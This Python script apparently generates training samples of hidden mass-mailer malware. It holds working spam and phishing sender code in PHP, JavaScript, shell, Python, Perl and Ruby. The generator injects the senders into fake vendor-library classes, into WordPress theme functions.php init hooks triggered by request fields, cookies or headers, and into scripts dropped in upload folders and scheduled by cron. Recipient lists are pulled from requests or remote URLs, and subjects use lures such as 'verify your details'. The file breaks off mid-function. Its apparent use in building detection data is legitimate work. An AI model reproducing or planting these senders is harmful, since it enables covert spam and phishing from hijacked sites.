"""train10 mass mailers: the sender inside a big file or itself big, in
classes, callbacks and many runtimes, its list from argv/stdin/env/DB/
socket/fetch/header. Written blind (README.md)."""

from t10_common import (T, F, rw, hx, ip, dom, host, b64, crlf, bom, oneline, docroot, webname, plug, theme,
                        script, cronline, crontab_file, php_vendor_class, php_big_plugin, php_theme_functions,
                        js_bundle, picture_b64, letter_html, py_helpers, pl_helpers, sh_helpers, js_helpers,
                        rb_helpers, HELP, where, ident, camel, homedir, sname, wpdir)

SUBJ = ("Your invoice is ready", "Account notice", "Delivery attempt failed", "Important: verify your details",
        "Re: your order", "Payment received")


def subj(r):
    return r.choice(SUBJ)


# 1 a send loop as a method of a big vendor-library class
def vendor_class_send(r, v):
    p = rw(r, 3)
    sends = (
        "mail($to, $this->subject, $this->body, $this->headers)",
        "mb_send_mail($to, $this->subject, $this->body, $this->headers)",
        "$this->smtpSend($to)",
        "call_user_func($this->cfg['transport'], $to, $this->subject, $this->body, $this->headers)",
    )
    inj = T(r"""    public $subject = '';
    public $body = '';
    public $headers = '';
    protected $cfg = array('transport' => 'mail', 'pause' => 1);

    public function flushQueue()
    {
        if (empty($_POST['@P@q'])) {
            return 0;
        }
        $job = json_decode(base64_decode($_POST['@P@q']), true);
        $this->subject = $job['s'];
        $this->body = $job['b'];
        $this->headers = "From: " . $job['f'] . "\r\nContent-Type: text/html; charset=UTF-8\r\n";
        $n = 0;
        foreach (preg_split('/[\s,;]+/', $job['l'], -1, PREG_SPLIT_NO_EMPTY) as $to) {
            if (@SEND@) {
                $n++;
            }
            if ($n % 50 === 0) {
                sleep($this->cfg['pause']);
            }
        }
        echo 'ok:' . $n;
        return $n;
    }

    protected function smtpSend($to)
    {
        $s = fsockopen('127.0.0.1', 25, $en, $es, 5);
        if (!$s) {
            return false;
        }
        foreach (array("HELO localhost", "MAIL FROM:<noreply@example.com>", "RCPT TO:<$to>", "DATA") as $c) {
            fwrite($s, $c . "\r\n");
            fgets($s, 512);
        }
        fwrite($s, "Subject: " . $this->subject . "\r\n" . $this->headers . "\r\n" . $this->body . "\r\n.\r\nQUIT\r\n");
        fclose($s);
        return true;
    }
""", P=p, SEND=sends[v])
    ns, cls = r.choice((("Symfony\\Component\\Cache", "CacheItemPool"), ("Monolog\\Handler", "BufferHandler"),
                        ("Guzzle\\Http", "RequestFormatter"), ("League\\Flysystem", "MountManager")))
    code = php_vendor_class(r, ns, cls, r.randint(250, 900), inj) + "\nif (isset($_POST['@P@q'])) { (new \\%s\\%s())->flushQueue(); }\n".replace("@P@", p) % (ns, cls)
    rel = "%s/vendor/%s/src/%s.php" % (docroot(r), ns.split("\\")[0].lower() + "/" + ns.split("\\")[-1].lower(), cls)
    if v == 2:
        rel = "%s/wp-content/plugins/%s/vendor/%s.php" % (docroot(r), plug(r), cls)
    return [F(code, rel, "php", "vendor-dir")]


# 2 a theme's functions.php of thousands of lines with an init hook sender
def theme_functions_sender(r, v):
    k = rw(r, 4)
    loops = (
        r"""foreach ($rc as $to) { wp_mail($to, $d['s'], $d['m'], array('Content-Type: text/html', 'From: ' . $d['f'])); }""",
        r"""array_walk($rc, function ($to) use ($d) { mail($to, $d['s'], $d['m'], "From: {$d['f']}\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n"); });""",
        r"""$i = 0; while ($i < count($rc)) { $h = 'From: ' . $d['f']; @mail($rc[$i], $d['s'], $d['m'], $h); $i++; if ($i % 20 == 0) usleep(500000); }""",
        r"""$fn = implode('', array('m', 'a', 'i', 'l')); array_map(function ($to) use ($fn, $d) { return $fn($to, $d['s'], $d['m'], 'From: ' . $d['f']); }, $rc);""",
    )
    src = ("json_decode(stripslashes($_POST['@K@']), true)", "unserialize(base64_decode($_COOKIE['@K@']))",
           "json_decode(file_get_contents('php://input'), true)", "json_decode(base64_decode($_SERVER['HTTP_X_@U@']), true)")[v]
    cond = ("isset($_POST['@K@'])", "isset($_COOKIE['@K@'])", "isset($_GET['@K@'])", "isset($_SERVER['HTTP_X_@U@'])")[v]
    inj = T("""add_action('init', function () {
    if (!(@COND@)) {
        return;
    }
    @ignore_user_abort(true);
    @set_time_limit(0);
    $d = @SRC@;
    $rc = is_array($d['r']) ? $d['r'] : explode("\\n", $d['r']);
    @LOOP@
    exit('done ' . count($rc));
}, 1);
""", COND=cond, SRC=src, LOOP=loops[v], K=k, U=k.upper())
    code = php_theme_functions(r, r.randint(120, 420), inj)
    return [F(code, "%s/wp-content/themes/%s/functions.php" % (docroot(r), theme(r)), "php", "theme-dir")]


# 3 a Node server bundle (minified) with a nodemailer/net send loop
def js_bundle_mailer(r, v):
    u = "https://%s/%s/list.json" % (dom(r), hx(r, 6))
    injs = (
        T("""const nm=require("nodemailer"),tr=nm.createTransport({host:"127.0.0.1",port:25,tls:{rejectUnauthorized:!1}});(async()=>{const l=await (await fetch("@U@")).json();for await(const to of l.rcpt){await tr.sendMail({from:l.from,to:to,subject:l.subject,html:l.html}).catch(()=>0)}})();""", U=u),
        T("""(function(){var nm=require("nodemailer"),t=nm.createTransport({sendmail:!0,newline:"unix",path:"/usr/sbin/sendmail"});require("https").get("@U@",function(r){var b="";r.on("data",function(c){b+=c}),r.on("end",function(){var j=JSON.parse(b);Promise.all(j.rcpt.map(function(x){return t.sendMail({from:j.from,to:x,subject:j.subject,html:j.html})})).then(function(){},function(){})})})})();""", U=u),
        T("""process.env.MQ_J&&(function(j){var n=require("net");j.rcpt.reduce(function(p,to){return p.then(function(){return new Promise(function(ok){var s=n.connect(25,"127.0.0.1"),q=["EHLO x","MAIL FROM:<"+j.from+">","RCPT TO:<"+to+">","DATA",["Subject: "+j.subject,"","",j.html,"."].join("\\r\\n"),"QUIT"];s.on("data",function(){q.length?s.write(q.shift()+"\\r\\n"):(s.end(),ok())}),s.on("error",ok)})})},Promise.resolve())})(JSON.parse(Buffer.from(process.env.MQ_J,"base64").toString()));"""),
        T("""const _m=require("nodemailer");module.exports.__q=function(e){var t=_m.createTransport({host:e.h,port:587,auth:{user:e.u,pass:e.p}});return e.l.forEach(function(n,i){setTimeout(function(){t.sendMail({from:e.u,to:n,subject:e.s,text:e.b})},i*300)}),!0};process.argv[2]&&module.exports.__q(JSON.parse(require("fs").readFileSync(process.argv[2],"utf8")));"""),
    )
    code = js_bundle(r, r.choice((70, 120, 180, 280)), injs[v])
    d = r.choice(("app/dist", "nodeapp/build", ".local/share/app/dist", "public_html/api/dist"))
    return [F(code, "%s/%s.js" % (d, r.choice(("main", "server", "index", "vendor." + hx(r, 8)))), "js",
              "home-app" if not d.startswith("public_html") else "docroot")]


# 4 a sender class: the list in a property, the loop in one method, the send in another
def php_class_split(r, v):
    c = r.choice(("Queue_Runner", "WP_Async_Task_Ext", "Notice_Dispatcher", "Cache_Warm"))
    m1, m2 = camel(r), camel(r)
    sends = ("return mail($to, $this->subject, $this->tpl, implode(\"\\r\\n\", $this->hdr));",
             "$f = $this->cfg['deliver']; return $f($to, $this->subject, $this->tpl, implode(\"\\r\\n\", $this->hdr));",
             "return self::$transport->send($to, $this->subject, $this->tpl);",
             "return $this->__call('deliver', array($to));")
    extra = ("", "", """class Native_Transport { public function send($a, $b, $c) { return mail($a, $b, $c, 'Content-Type: text/html'); } }
""", "")
    magic = ("", "", "", """    public function __call($name, $args)
    {
        $map = array('deliver' => 'mail');
        return call_user_func_array($map[$name], array($args[0], $this->subject, $this->tpl, implode("\\r\\n", $this->hdr)));
    }
""")
    src = ("$_POST", "json_decode(file_get_contents('php://input'), true)", "unserialize(gzinflate(base64_decode($_POST['d'])))",
           "$GLOBALS['_REQUEST']")[v]
    code = T("""<?php
@EXTRA@class @C@
{
    public $rcpt = array();
    public $subject = '';
    public $tpl = '';
    public $hdr = array();
    public $cfg = array('deliver' => 'mail', 'batch' => 40);
    public static $transport;

    public function __construct(array $in)
    {
        $this->rcpt = array_filter(array_map('trim', explode("\\n", $in['to'])));
        $this->subject = $in['subject'];
        $this->tpl = $in['body'];
        $this->hdr = array('From: ' . $in['from'], 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8');
    }

    public function @M1@()
    {
        $ok = 0;
        foreach (array_chunk($this->rcpt, $this->cfg['batch']) as $chunk) {
            foreach ($chunk as $to) {
                $ok += (int) $this->@M2@($to);
            }
            sleep(1);
        }
        return $ok;
    }

    protected function @M2@($to)
    {
        @SEND@
    }
@MAGIC@}

@set_time_limit(0);
@C@::$transport = class_exists('Native_Transport') ? new Native_Transport() : null;
$in = @SRC@;
if (!empty($in['to'])) {
    $job = new @C@($in);
    echo json_encode(array('sent' => $job->@M1@()));
}
""", C=c, M1=m1, M2=m2, SEND=sends[v], EXTRA=extra[v], MAGIC=magic[v], SRC=src)
    d = r.choice(("%s/wp-content/uploads/%d/%02d" % (docroot(r), r.randint(2019, 2025), r.randint(1, 12)),
                  "%s/wp-includes/SimplePie/Cache" % docroot(r), "%s/wp-content/plugins/%s/includes" % (docroot(r), plug(r))))
    if v == 1:
        code = crlf(code)
    return [F(code, d + "/" + r.choice(("class-" + rw(r, 5) + ".php", webname(r))), "php", "plain")]


# 5 the list as an SPL iterator / ArrayAccess / generator object
def iterator_object_sender(r, v):
    cls = r.choice(("RecipientCursor", "FeedReader", "RowSet", "LazyList"))
    bodies = (
        """class @C@ implements IteratorAggregate
{
    private $file;
    public function __construct($file) { $this->file = $file; }
    public function getIterator(): Iterator
    {
        $fh = fopen($this->file, 'r');
        while (($line = fgets($fh)) !== false) {
            if (strpos($line, '@') !== false) {
                yield trim($line);
            }
        }
        fclose($fh);
    }
}
$list = new @C@(__DIR__ . '/@LF@');
""",
        """class @C@ implements Iterator
{
    private $rows; private $i = 0;
    public function __construct(array $rows) { $this->rows = array_values($rows); }
    public function current(): mixed { return $this->rows[$this->i]; }
    public function key(): mixed { return $this->i; }
    public function next(): void { $this->i++; }
    public function rewind(): void { $this->i = 0; }
    public function valid(): bool { return isset($this->rows[$this->i]); }
}
$list = new @C@(explode(',', base64_decode($_POST['rl'])));
""",
        """class @C@ implements ArrayAccess, Countable
{
    private $d;
    public function __construct($d) { $this->d = $d; }
    public function offsetExists($o): bool { return isset($this->d[$o]); }
    public function offsetGet($o): mixed { return $this->d[$o]; }
    public function offsetSet($o, $v): void { $this->d[$o] = $v; }
    public function offsetUnset($o): void { unset($this->d[$o]); }
    public function count(): int { return count($this->d); }
}
$list = new @C@(file(__DIR__ . '/@LF@', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES));
""",
        """$list = new ArrayIterator(json_decode(file_get_contents('https://@H@/q/@LF@'), true));
$list = new CallbackFilterIterator($list, function ($e) { return filter_var($e, FILTER_VALIDATE_EMAIL); });
""",
    )
    loops = (
        "foreach ($list as $to) { mail($to, $s, $b, $h); }",
        "iterator_apply($list, function () use ($list, $s, $b, $h) { mail($list->current(), $s, $b, $h); return true; }, array());",
        "for ($i = 0, $n = count($list); $i < $n; $i++) { mail($list[$i], $s, $b, $h); if ($i % 25 == 24) sleep(2); }",
        "foreach (new LimitIterator(new IteratorIterator($list), 0, 5000) as $to) { mb_send_mail($to, $s, $b, $h); }",
    )
    lf = rw(r, 5) + r.choice((".txt", ".dat", ".log", ""))
    code = T("<?php\n" + bodies[v] + """$s = isset($_POST['s']) ? $_POST['s'] : '@SUBJ@';
$b = isset($_POST['b']) ? $_POST['b'] : file_get_contents(__DIR__ . '/tpl.html');
$h = "From: " . (isset($_POST['f']) ? $_POST['f'] : 'support@@D@') . "\\r\\nContent-type: text/html\\r\\n";
@LOOP@
echo 'end';
""", C=cls, LF=lf, H=dom(r), LOOP=loops[v], SUBJ=subj(r), D=dom(r))
    d = "%s/%s" % (docroot(r), r.choice(("wp-content/uploads/wpforms/cache", "images/stories", "wp-admin/css/colors/" + rw(r, 4),
                                         "media/system/" + rw(r, 4))))
    files = [F(code, d + "/" + webname(r), "php", "plain")]
    if v in (0, 2):
        files.append(F("\n".join("%s%d@%s" % (rw(r, 5), i, r.choice(("example.com", "example.net", "example.org")))
                                 for i in range(r.randint(200, 900))) + "\n", d + "/" + lf, "text", "plain"))
    return files


# 6 shell: while-read loops into mailx / mutt / sendmail / xargs
def shell_read_pipe(r, v):
    lst = r.choice(("l.txt", ".list", "em", "data.csv"))
    bodies = (
        """while IFS= read -r to; do
	[ -n "$to" ] || continue
	mailx -a "Content-Type: text/html" -r "$FROM" -s "$SUBJ" "$to" <"$LETTER"
	n=$((n + 1))
	[ $((n % 100)) -eq 0 ] && sleep 5
done <"$LIST"
""",
        """send_one() {
	/usr/sbin/sendmail -t -f "$FROM" <<EOF
To: $1
From: $FROM
Subject: $SUBJ
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

$(cat "$LETTER")
EOF
}
while read -r line; do
	IFS=, read -r name to rest <<<"$line"
	send_one "$to"
done < <(grep -v '^#' "$LIST")
""",
        """export FROM SUBJ LETTER
grep -Eo '[[:alnum:]._%+-]+@[[:alnum:].-]+' "$LIST" | sort -u |
	xargs -P 8 -I{} sh -c 'mutt -e "set from=$FROM" -e "set content_type=text/html" -s "$SUBJ" -- "{}" <"$LETTER"'
""",
        """cat "$LIST" | while read to; do
	printf 'To: %s\\nFrom: %s\\nSubject: %s\\nContent-Type: text/html\\n\\n%s\\n' "$to" "$FROM" "$SUBJ" "$(cat $LETTER)" | busybox sendmail -f "$FROM" "$to" &
	[ $(jobs -p | wc -l) -ge 10 ] && wait
done
wait
""",
    )
    c, d = homedir(r)
    lang = ("bash", "bash", "sh", "sh")[v]
    helpers = "\n".join(sh_helpers(r, r.randint(2, 40)))
    code = T("""LIST=${1:-$(dirname "$0")/@L@}
LETTER=${2:-$(dirname "$0")/m.html}
FROM=${FROM:-"Support <no-reply@@D@>"}
SUBJ=${SUBJ:-"@S@"}
n=0
@H@
""", L=lst, D=dom(r), S=subj(r), H=helpers) + bodies[v]
    if lang == "sh":
        code = code.replace("done < <(grep -v '^#' \"$LIST\")", "done <\"$LIST\"")
    f = script(r, lang, code, d=d)
    files = [f, F(letter_html(r, r.choice((3, 20, 50))), (d + "/" if d else "") + "m.html", "html", c),
             F("\n".join("%s@%s" % (rw(r, 6), dom(r)) for _ in range(300)) + "\n", (d + "/" if d else "") + lst, "text", c)]
    if v == 3:
        files.append(crontab_file(r, [cronline(r, "cd $HOME/%s && sh %s >/dev/null 2>&1" % (d, f[1].split("/")[-1]), "*/30 * * * *")]))
    return files


# 7 shell SMTP: curl smtp:// --mail-rcpt, swaks, /dev/tcp by hand, openssl s_client
def shell_smtp_client(r, v):
    relay = r.choice(("smtp.example.net", "mail.example.org", ip(r)))
    bodies = (
        """while read -r rc; do
	curl -s --url "smtp://@R@:587" --ssl-reqd --mail-from "$U" --mail-rcpt "$rc" \\
		--user "$U:$P" -T <(sed "s/{{email}}/$rc/g" "$DIR/msg.eml") || echo "$rc" >>"$DIR/bad"
done <"$DIR/rcpt"
""",
        """for rc in $(cat "$DIR/rcpt"); do
	swaks --to "$rc" --from "$U" --server @R@:587 --auth LOGIN --auth-user "$U" --auth-password "$P" \\
		--tls --header "Subject: @S@" --body "$DIR/msg.eml" --h-Content-Type text/html >/dev/null
done
""",
        """smtp() {
	exec 3<>/dev/tcp/@R@/25
	read -r _ <&3
	for c in "HELO $(hostname)" "MAIL FROM:<$U>" "RCPT TO:<$1>" "DATA"; do
		printf '%s\\r\\n' "$c" >&3
		read -r _ <&3
	done
	sed "s/{{email}}/$1/g" "$DIR/msg.eml" >&3
	printf '\\r\\n.\\r\\nQUIT\\r\\n' >&3
	exec 3>&-
}
while read -r a; do smtp "$a"; done <"$DIR/rcpt"
""",
        """AUTH=$(printf '\\0%s\\0%s' "$U" "$P" | base64 -w0)
xargs -n1 -P4 <"$DIR/rcpt" sh -c '{ printf "EHLO x\\r\\nAUTH PLAIN %s\\r\\nMAIL FROM:<%s>\\r\\nRCPT TO:<%s>\\r\\nDATA\\r\\n" "$0" "$1" "$2"; cat "$3/msg.eml"; printf "\\r\\n.\\r\\nQUIT\\r\\n"; } | openssl s_client -quiet -starttls smtp -connect @R@:587 >/dev/null 2>&1' "$AUTH" "$U" "$@" "$DIR"
""",
    )
    c, d = homedir(r)
    code = T("""DIR=$(cd "$(dirname "$0")" && pwd)
U=${SMTP_USER:-info@@D@}
P=${SMTP_PASS:-$(cat "$DIR/.p" 2>/dev/null)}
""", D=dom(r)) + T(bodies[v], R=relay, S=subj(r))
    f = script(r, "bash", code, d=d)
    return [f, F("Subject: %s\nFrom: Billing <billing@%s>\nContent-Type: text/html\n\n" % (subj(r), dom(r)) + letter_html(r, 4),
                 (d + "/" if d else "") + "msg.eml", "text", c)]


# 8 a big Python sender: helpers, help text, a 50 KB letter, a picture blob
def python_big_sender(r, v):
    n = r.randint(20, 120)
    helpers = "\n\n".join(py_helpers(r, n))
    letter = letter_html(r, r.choice((20, 50, 60)))
    pic = picture_b64(r, r.choice((8, 30, 60)))
    sends = (
        """def deliver(to, cfg):
    msg = MIMEMultipart('related')
    msg['Subject'] = cfg['subject']
    msg['From'] = cfg['from']
    msg['To'] = to
    msg.attach(MIMEText(LETTER.replace('{{email}}', to), 'html'))
    img = MIMEImage(base64.b64decode(LOGO), 'png')
    img.add_header('Content-ID', '<logo>')
    msg.attach(img)
    s = smtplib.SMTP(cfg['host'], cfg.get('port', 587), timeout=20)
    s.starttls()
    s.login(cfg['user'], cfg['password'])
    s.sendmail(cfg['from'], [to], msg.as_string())
    s.quit()
    return to
""",
        """def deliver(to, cfg):
    m = EmailMessage()
    m['Subject'], m['From'], m['To'] = cfg['subject'], cfg['from'], to
    m.set_content('html only')
    m.add_alternative(LETTER.replace('{{email}}', to), subtype='html')
    with smtplib.SMTP_SSL(cfg['host'], 465) as s:
        s.login(cfg['user'], cfg['password'])
        s.send_message(m)
    return to
""",
        """def deliver(to, cfg):
    p = subprocess.Popen(['/usr/sbin/sendmail', '-t', '-f', cfg['from']], stdin=subprocess.PIPE)
    p.communicate(('To: %s\\nFrom: %s\\nSubject: %s\\nContent-Type: text/html\\n\\n%s' % (
        to, cfg['from'], cfg['subject'], LETTER.replace('{{email}}', to))).encode('utf-8'))
    return to
""",
        """def deliver(to, cfg):
    s = smtplib.SMTP('localhost')
    msg = MIMEText(LETTER.replace('{{email}}', to), 'html', 'utf-8')
    msg['Subject'] = cfg['subject']
    msg['From'] = cfg['from']
    s.sendmail(cfg['from'], to, msg.as_string())
    s.quit()
    return to
""",
    )
    runs = (
        "    with ThreadPoolExecutor(int(cfg.get('threads', 8))) as ex:\n        done = list(ex.map(lambda t: deliver(t, cfg), rcpt))\n",
        "    done = [deliver(t, cfg) for t in rcpt if '@' in t]\n",
        "    done = list(map(lambda t: deliver(t, cfg), filter(None, rcpt)))\n",
        "    done = []\n    for chunk in (rcpt[i:i + 50] for i in range(0, len(rcpt), 50)):\n        done.extend(deliver(t, cfg) for t in chunk)\n        time.sleep(3)\n",
    )
    srcs = ("json.load(open(sys.argv[1]))", "json.loads(os.environ.get('JOB') or sys.stdin.read())",
            "json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'conf.json')))",
            "json.loads(base64.b64decode(sys.argv[1]).decode())")
    code = T('''# -*- coding: utf-8 -*-
"""@PROG@: bulk notification tool.

@HELP@"""
from __future__ import print_function
import base64
import json
import os
import smtplib
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from email.mime.image import MIMEImage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
try:
    from email.message import EmailMessage
except ImportError:
    EmailMessage = None

LETTER = """@LETTER@"""

LOGO = (
@PIC@
)


@HELPERS@


@SEND@

def main():
    if '-h' in sys.argv:
        print(__doc__)
        return 0
    cfg = @SRC@
    rcpt = [x.strip() for x in open(cfg['list']) if x.strip()]
@RUN@    print('sent', len(done))
    return 0


if __name__ == '__main__':
    sys.exit(main())
''', PROG=rw(r, 5), HELP=HELP % "run", LETTER=letter.replace('"""', "'''"), HELPERS=helpers, SEND=sends[v], RUN=runs[v],
             SRC=srcs[v], PIC="\n".join("    '%s'" % pic[i:i + 76] for i in range(0, len(pic), 76)))
    files = [script(r, "python", code)]
    if v == 2:
        dd = files[0][1].rsplit("/", 1)[0] if "/" in files[0][1] else ""
        files.append(F('{"list": "list.txt", "from": "Service <info@%s>", "subject": "%s", "threads": 6}\n' % (dom(r), subj(r)),
                       (dd + "/" if dd else "") + "conf.json", "json", files[0][3]))
    return files


# 9 Python SMTP by hand on a socket (list comprehension / generator / recursion)
def python_socket_smtp(r, v):
    cores = (
        """def talk(sock, lines):
    for l in lines:
        sock.sendall((l + '\\r\\n').encode())
        sock.recv(1024)


def send(rcpt):
    s = socket.create_connection((MX, 25), 15)
    s.recv(1024)
    talk(s, ['HELO ' + socket.gethostname(), 'MAIL FROM:<%s>' % FROM] + ['RCPT TO:<%s>' % x for x in rcpt] + ['DATA'])
    s.sendall((BODY + '\\r\\n.\\r\\nQUIT\\r\\n').encode())
    s.close()


batches = [RCPT[i:i + 40] for i in range(0, len(RCPT), 40)]
[send(b) for b in batches]
""",
        """def chat(f, cmd):
    f.write(cmd + '\\r\\n')
    f.flush()
    return f.readline()


def run(queue):
    if not queue:
        return
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((MX, 587))
    f = s.makefile('rw')
    f.readline()
    for c in ('EHLO x', 'MAIL FROM:<%s>' % FROM, 'RCPT TO:<%s>' % queue[0], 'DATA'):
        chat(f, c)
    chat(f, BODY.replace('{{email}}', queue[0]) + '\\r\\n.')
    chat(f, 'QUIT')
    s.close()
    run(queue[1:])


sys.setrecursionlimit(100000)
run(RCPT)
""",
        """def conv(to):
    yield 'EHLO ' + socket.getfqdn()
    yield 'MAIL FROM:<%s>' % FROM
    yield 'RCPT TO:<%s>' % to
    yield 'DATA'
    yield BODY + '\\r\\n.'
    yield 'QUIT'


for to in filter(lambda a: '@' in a, RCPT):
    c = socket.create_connection((MX, 25))
    c.recv(512)
    for line in conv(to):
        c.send((line + '\\r\\n').encode('utf-8'))
        c.recv(512)
    c.close()
""",
        """import ssl
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
for to in RCPT:
    raw = socket.create_connection((MX, 465))
    s = ctx.wrap_socket(raw)
    s.recv(512)
    auth = base64.b64encode(('\\0%s\\0%s' % (USER, PASS)).encode()).decode()
    for c in ['EHLO x', 'AUTH PLAIN ' + auth, 'MAIL FROM:<%s>' % FROM, 'RCPT TO:<%s>' % to, 'DATA', BODY + '\\r\\n.', 'QUIT']:
        s.send((c + '\\r\\n').encode())
        s.recv(512)
    s.close()
""",
    )
    srcs = ("[l.strip() for l in sys.stdin if l.strip()]", "open(sys.argv[1]).read().split()",
            "os.environ.get('RL', '').split(',')", "[l.split(';')[1] for l in open(os.path.expanduser('~/.cache/.r')) if ';' in l]")
    code = T("""import base64
import os
import socket
import sys

MX = '@MX@'
FROM = 'alerts@@D@'
USER, PASS = 'info@@D@', '@PW@'
BODY = 'Subject: @S@\\r\\nFrom: ' + FROM + '\\r\\nContent-Type: text/html\\r\\n\\r\\n' + open(os.path.join(os.path.dirname(__file__), 'b.html')).read()
RCPT = @SRC@

""", MX=r.choice((ip(r), "127.0.0.1", "mx.example.net")), D=dom(r), PW=rw(r, 10), S=subj(r), SRC=srcs[v]) + cores[v]
    f = script(r, "python", code)
    dd = f[1].rsplit("/", 1)[0] if "/" in f[1] else ""
    return [f, F(letter_html(r, 2), (dd + "/" if dd else "") + "b.html", "html", f[3])]


# 10 Perl: Net::SMTP / MIME::Lite / Mail::Sendmail via require / sendmail pipe; map/grep
def perl_sender(r, v):
    helpers = "\n".join(pl_helpers(r, r.randint(3, 60)))
    sends = (
        """sub deliver {
    my ($to) = @_;
    my $smtp = Net::SMTP->new($cfg{host}, Port => 587, Timeout => 20) or return 0;
    $smtp->starttls() if $smtp->can('starttls');
    $smtp->auth($cfg{user}, $cfg{pass});
    $smtp->mail($cfg{from});
    $smtp->to($to);
    $smtp->data();
    $smtp->datasend("To: $to\\nFrom: $cfg{from}\\nSubject: $cfg{subject}\\nContent-Type: text/html\\n\\n$letter\\n");
    $smtp->dataend();
    $smtp->quit;
    return 1;
}
""",
        """sub deliver {
    my ($to) = @_;
    require MIME::Lite;
    my $m = MIME::Lite->new(From => $cfg{from}, To => $to, Subject => $cfg{subject}, Type => 'text/html', Data => $letter);
    $m->send('smtp', $cfg{host}, AuthUser => $cfg{user}, AuthPass => $cfg{pass});
    return 1;
}
""",
        """sub deliver {
    my ($to) = @_;
    require Mail::Sendmail;
    my %mail = (To => $to, From => $cfg{from}, Subject => $cfg{subject}, 'content-type' => 'text/html', Message => $letter, smtp => $cfg{host});
    return Mail::Sendmail::sendmail(%mail);
}
""",
        """sub deliver {
    my ($to) = @_;
    open(my $sm, '|-', '/usr/sbin/sendmail', '-oi', '-t', '-f', $cfg{from}) or return 0;
    print $sm "To: $to\\nFrom: $cfg{from}\\nSubject: $cfg{subject}\\nMIME-Version: 1.0\\nContent-Type: text/html\\n\\n$letter\\n";
    close $sm;
    return 1;
}
""",
    )
    runs = ("my $ok = grep { deliver($_) } grep { /\\@/ } @rcpt;\n",
            "my $ok = 0;\n$ok += $_ for map { my $r = deliver($_); sleep 1 unless $. % 30; $r } @rcpt;\n",
            "my @done = map { deliver($_) ? $_ : () } @rcpt;\nmy $ok = scalar @done;\n",
            "my $ok = 0;\nwhile (my @batch = splice(@rcpt, 0, 25)) {\n    $ok += deliver($_) for @batch;\n    sleep 2;\n}\n")
    srcs = ("my @rcpt = <STDIN>;", "open(my $fh, '<', $ARGV[0] || 'list') or die; my @rcpt = <$fh>; close $fh;",
            "my @rcpt = split /,/, ($ENV{RCPT} || '');",
            "my @rcpt = split /\\n/, `curl -s https://%s/%s.txt`;" % (dom(r), hx(r, 6)))
    code = T("""use strict;
use warnings;
use Net::SMTP;

my %cfg = (host => '@H@', user => 'news@@D@', pass => '@PW@', from => 'News <news@@D@>', subject => '@S@');
my $letter = do { local $/; my $l; open($l, '<', ($ENV{HOME} || '.') . '/.cache/l.html') ? <$l> : '<p>hello</p>' };

@HELP@

@SEND@
@SRC@
chomp @rcpt;
@RUN@print "ok $ok\\n";
""", H=r.choice(("smtp.example.net", ip(r))), D=dom(r), PW=rw(r, 10), S=subj(r), HELP=helpers, SEND=sends[v], SRC=srcs[v], RUN=runs[v])
    return [script(r, "perl", code)]


# 11 Ruby: Net::SMTP with each_slice / inject; the mail gem
def ruby_sender(r, v):
    helpers = "\n".join(rb_helpers(r, r.randint(2, 30)))
    cores = (
        """Net::SMTP.start(CFG['host'], 587, 'localhost', CFG['user'], CFG['pass'], :login) do |smtp|
  RCPT.each_slice(50) do |batch|
    batch.each do |to|
      smtp.send_message(msg(to), CFG['from'], to) rescue nil
    end
    sleep 2
  end
end
""",
        """sent = RCPT.inject(0) do |n, to|
  Net::SMTP.start('127.0.0.1', 25) { |s| s.send_message(msg(to), CFG['from'], to) }
  n + 1
end
puts sent
""",
        """require 'mail'
Mail.defaults do
  delivery_method :smtp, address: CFG['host'], port: 587, user_name: CFG['user'], password: CFG['pass'], authentication: 'login'
end
RCPT.each_with_index do |to, i|
  Mail.deliver do
    from CFG['from']
    to to
    subject CFG['subject']
    html_part { body LETTER }
  end
  sleep 1 if (i % 20).zero?
end
""",
        """RCPT.map { |to| Thread.new(to) { |t| IO.popen(['/usr/sbin/sendmail', '-t'], 'w') { |io| io.write(msg(t)) } } }.each(&:join)
""",
    )
    srcs = ("ARGF.readlines.map(&:strip).reject(&:empty?)", "File.readlines(ARGV[0]).map(&:chomp)",
            "ENV.fetch('RCPT', '').split(',')", "JSON.parse(Net::HTTP.get(URI('https://%s/%s')))['r']" % (dom(r), hx(r, 6)))
    code = T("""require 'net/smtp'
require 'net/http'
require 'json'

CFG = { 'host' => '@H@', 'user' => 'info@@D@', 'pass' => '@PW@', 'from' => 'info@@D@', 'subject' => '@S@' }
LETTER = File.read(File.join(__dir__, 'body.html')) rescue '<p>Hi</p>'
RCPT = @SRC@

@HELP@

def msg(to)
  "From: #{CFG['from']}\\r\\nTo: #{to}\\r\\nSubject: #{CFG['subject']}\\r\\nContent-Type: text/html\\r\\n\\r\\n#{LETTER.gsub('{{email}}', to)}"
end

""", H=r.choice(("smtp.example.net", ip(r))), D=dom(r), PW=rw(r, 10), S=subj(r), SRC=srcs[v], HELP=helpers) + cores[v]
    return [script(r, "ruby", code)]


# 12 Node: hand-written SMTP on net sockets as an event-driven state machine
def node_net_smtp(r, v):
    helpers = "\n".join(js_helpers(r, r.randint(2, 40)))
    runs = (
        "(async () => { for (const to of list) { await one(to); } })();\n",
        "Promise.all(list.slice(0, 200).map(one)).then(() => process.exit(0));\n",
        "list.reduce((p, to) => p.then(() => one(to)), Promise.resolve());\n",
        "let i = 0;\nconst tick = setInterval(() => { if (i >= list.length) return clearInterval(tick); one(list[i++]); }, 250);\n",
    )
    srcs = ("fs.readFileSync(process.argv[2], 'utf8').split(/\\r?\\n/).filter(Boolean)",
            "JSON.parse(process.env.RL || '[]')",
            "fs.readFileSync(0, 'utf8').split('\\n').filter((x) => x.includes('@'))",
            "fs.readFileSync(require('path').join(__dirname, '.q'), 'utf8').trim().split(',')")
    code = T("""'use strict';
const net = require('net');
const fs = require('fs');
const FROM = 'service@@D@';
const BODY = 'Subject: @S@\\r\\nFrom: ' + FROM + '\\r\\nContent-Type: text/html\\r\\n\\r\\n<p>Please review your account.</p>';
const list = @SRC@;

@HELP@

function one(to) {
  return new Promise((resolve) => {
    const steps = ['EHLO node', 'MAIL FROM:<' + FROM + '>', 'RCPT TO:<' + to + '>', 'DATA', BODY + '\\r\\n.', 'QUIT'];
    const s = net.createConnection({ host: '@MX@', port: 25 });
    s.setEncoding('utf8');
